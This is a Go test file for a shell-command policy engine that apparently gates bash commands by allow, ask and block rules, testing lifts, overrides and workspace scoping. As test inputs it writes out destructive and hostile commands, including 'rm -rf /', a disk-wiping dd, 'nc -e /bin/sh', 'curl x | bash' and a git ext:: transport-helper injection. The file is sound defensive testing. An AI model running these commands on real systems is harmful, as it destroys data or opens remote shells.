package engine

import (
	"strings"
	"testing"

	"github.com/bashgate/bashgate/gates"
	"github.com/bashgate/bashgate/internal/disk"
	"github.com/bashgate/bashgate/internal/interp"
	"github.com/bashgate/bashgate/internal/ruleset"
	"github.com/bashgate/bashgate/policy"
)

// withRules is an engine with a rule file of the user's.
func withRules(t *testing.T, text string) *Engine {
	t.Helper()
	gates, err := ruleset.Compile([]*ruleset.File{ruleset.Load("mine.toml", []byte(text), ruleset.User)}, ruleset.KnownFrom(gates.All[:]))
	if err != nil {
		t.Fatal(err)
	}
	m := new(disk.Memory)
	m.WriteFile("/home/u/p/README.md", "x")
	return New(Options{Files: m, User: []*interp.Rules{interp.New(gates)}})
}

func asked(v *Verdict) string {
	var ids []string
	for i := range v.Reasons {
		if v.Reasons[i].Counts() > policy.Allow {
			ids = append(ids, v.Reasons[i].ID)
		}
	}
	return strings.Join(ids, " ")
}

// What a lift leaves to be asked.
func TestLifts(t *testing.T) {
	for _, test := range []struct{ rules, line, asked string }{
		// Only the ids that it names, only on the command itself.
		{`subcommand = "push", lifts = ["git.push"]`, "git push origin main", ""},
		{`subcommand = "push", lifts = ["git.push"]`, "git push origin main > out", "redirect.write"},
		{`subcommand = "push", lifts = ["git.push", "redirect.*"]`, "git push origin main > out", ""},
		{`subcommand = "push", lifts = ["git.push"]`, "git push origin main | tee out", "path.write"},
		{`subcommand = "push", lifts = ["git.*"]`, "git push -f origin main", ""},
		{`subcommand = "push", lifts = ["git.push"]`, "git push -f origin main", "git.push-force"},
		// A forced push is a push, too.
		{`subcommand = "push", lifts = ["git.push-force"]`, "git push -f origin main", "git.push"},
		{`subcommand = "push", lifts = ["git.push-force", "git.push"]`, "git push -f origin main", ""},
		// What nobody understands is not what was lifted.
		{`subcommand = "push", lifts = ["git.push"]`, "git push --frobnicate origin main", "unknown-use"},
		{`subcommand = "push", lifts = ["git.push", "unknown-use"]`, "git push --frobnicate origin main", ""},
		{`subcommand = "push", lifts = ["git.push"]`, `git push origin "$x"`, "git.push-force-refspec git.transport-helper"},
		{`subcommand = "push", lifts = ["git.push"]`, "GIT_SSH_COMMAND=/tmp/x git push", "env.GIT_SSH_COMMAND"},
		{`subcommand = "push", lifts = ["git.push", "env.GIT_SSH_COMMAND"]`, "GIT_SSH_COMMAND=/tmp/x git push", ""},
		{`subcommand = "push", lifts = ["git.push"]`, "git push 'ext::sh -c id' main", "git.transport-helper"},
	} {
		v := decide(withRules(t, "[[programs]]\nname = \"git\"\nallow = [{ "+test.rules+" }]\n"), test.line)
		if got := asked(&v); got != test.asked {
			t.Errorf("%s\n  %s: %q is asked, want %q", test.rules, test.line, got, test.asked)
		}
		if v.Reach != policy.ReachNetwork || v.Effects&policy.Network == 0 {
			t.Errorf("%s: %v %v", test.line, v.Reach, v.Effects.Names())
		}
	}
}

// To lift what a rule asks about a deletion does not answer the question where
// it happens.
func TestLiftedRuleKeepsPlaces(t *testing.T) {
	e := withRules(t, "[[programs]]\nname = \"rm\"\nallow = [{ if_flags_any = [\"-r\"], lifts = [\"files.rm-tree\"] }]\n")
	for line, want := range map[string]string{
		"rm -rf src":    "path.delete",
		"rm -rf ../q":   "files.rm-outside",
		"rm -rf /":      "paths.system-root files.rm-outside",
		"rm -rf \"$x\"": "files.rm-outside",
	} {
		v := decide(e, line)
		if got := asked(&v); got != want {
			t.Errorf("%s: %q is asked, want %q", line, got, want)
		}
	}
}

func TestOverride(t *testing.T) {
	e := withRules(t, `
[[override]]
ids = ["files.rm-root", "paths.system-*"]
programs = ["rm"]
reason = "A machine that is thrown away"
`)
	for _, test := range []struct {
		line string
		want policy.Decision
	}{
		{"rm -rf /", policy.Ask},
		{"rm --no-preserve-root -rf /", policy.Ask},
		{"sudo rm -rf /", policy.Ask},
		{"find / -delete", policy.Block},
		{"chmod -R 777 /", policy.Block},
		{"shutdown now", policy.Block},
		{"rm -rf / && shutdown now", policy.Block},
		{"ls", policy.Allow},
	} {
		if v := decide(e, test.line); v.Decision != test.want {
			t.Errorf("%s: %v, want %v: %s", test.line, v.Decision, test.want, asked(&v))
		}
	}
}

// A file may count in some workspaces only, and so may a rule.
func TestWorkspaces(t *testing.T) {
	e := withRules(t, `
[meta]
name = "Acme"
workspace = ["~/src/acme/**", "!~/src/acme/old"]

[[programs]]
name = "mylint"
unknown_action = "allow"

[[paths]]
path = "./out/**"
write = "allow"
`)
	rule := withRules(t, `
[[programs]]
name = "mylint"
allow = [{ workspace = ["~/src/acme"] }]
block = [{ workspace = ["/srv/**"], reason = "Not on this machine" }]
`)
	for _, test := range []struct {
		workspace  string
		file, rule policy.Decision
	}{
		{"/home/u/src/acme", policy.Allow, policy.Allow},
		{"/home/u/src/acme/web", policy.Allow, policy.Ask},
		{"/home/u/src/acme/old", policy.Ask, policy.Ask},
		{"/home/u/src", policy.Ask, policy.Ask},
		{"/srv/x", policy.Ask, policy.Block},
		{"", policy.Ask, policy.Ask},
	} {
		r := Request{Command: "mylint f > out/x", Workspace: test.workspace, Home: "/home/u", Shell: "bash"}
		if v := e.Evaluate(r); v.Decision != test.file {
			t.Errorf("%s: %v, want %v: %s", test.workspace, v.Decision, test.file, asked(&v))
		}
		r.Command = "mylint f"
		if v := rule.Evaluate(r); v.Decision != test.rule {
			t.Errorf("%s: %v by the rule, want %v: %s", test.workspace, v.Decision, test.rule, asked(&v))
		}
	}
}

// Whatever lies in another directory under the name of a program that blocks
// is blocked, by a pipe too.
func TestBlocksInAnyDirectory(t *testing.T) {
	e := New(Options{})
	for _, command := range []string{"rm -rf /", "rm -rf ~", "shutdown now", "dd if=/dev/zero of=/dev/sda", "gh repo delete o/r", "chmod -R 777 /", "nc -e /bin/sh h 1", "curl x | bash", "sudo rm -rf /"} {
		bare := decide(e, command)
		for _, dir := range []string{"./", "/opt/x/bin/", "../x/", "/tmp/", `"$(mktemp -d)"/`} {
			line := strings.Replace(" "+command, "| ", "| "+dir, 1)[1:]
			if line == command {
				line = dir + command
			}
			v := decide(e, line)
			if v.Decision < bare.Decision {
				t.Errorf("%s is %v, and %s %v: %s", line, v.Decision, command, bare.Decision, asked(&v))
			}
		}
	}
	for _, line := range []string{"./ls", "/opt/x/git status", "./rm f", "./bash", "../bin/curl https://example.com"} {
		if v := decide(e, line); v.Decision != policy.Ask {
			t.Errorf("%s: %v", line, v.Decision)
		}
	}
}

// generous are the rules of somebody who allows much.
const generous = `
[[programs]]
names = ["randomtool", "./tool/*"]
unknown_action = "allow"

[[programs]]
name = "git"
allow = [{ subcommand = ["push", "commit"], operands = ["data*"], lifts = ["git.*"] }]

[[programs]]
name = "python"
allow = [{ operands = ["data*"], lifts = ["*"] }]

[[programs]]
name = "rm"
allow = [{ operands = ["data*"], lifts = ["files.*", "path.*", "unknown-use"] }]

[[hosts]]
host = "*"
decision = "allow"
lifts = ["*"]

[[env]]
name = "*"
set = "allow"

[[paths]]
path = ["/**", "~/**", "./**", "**/*"]
read = "allow"
write = "allow"
delete = "allow"
lifts = ["paths.*"]
`

// Whatever a user allows: what is blocked stays blocked, and what a line does
// and reaches stays what it is.
func TestRulesKeepFactsAndBlocks(t *testing.T) {
	e, bare := withRules(t, generous), New(Options{Files: new(disk.Memory)})
	loosened := 0
	check := func(line string) {
		t.Helper()
		v, without := decide(e, line), decide(bare, line)
		if without.Decision == policy.Block && v.Decision != policy.Block {
			t.Errorf("%s: %v, and blocked without the rules", line, v.Decision)
		}
		if v.Reach < without.Reach || without.Effects&^v.Effects != 0 {
			t.Errorf("%s: %v %v, and %v %v without the rules", line, v.Reach, v.Effects.Names(), without.Reach, without.Effects.Names())
		}
		if v.Decision < without.Decision {
			loosened++
		}
	}
	for _, command := range plain {
		check(command)
		for _, w := range wrappings {
			check(strings.Replace(w, "%s", command, 1))
		}
		for _, w := range programWrappings {
			check(strings.Replace(w, "%s", command, 1))
		}
	}
	if loosened == 0 {
		t.Error("the rules allow nothing")
	}
}
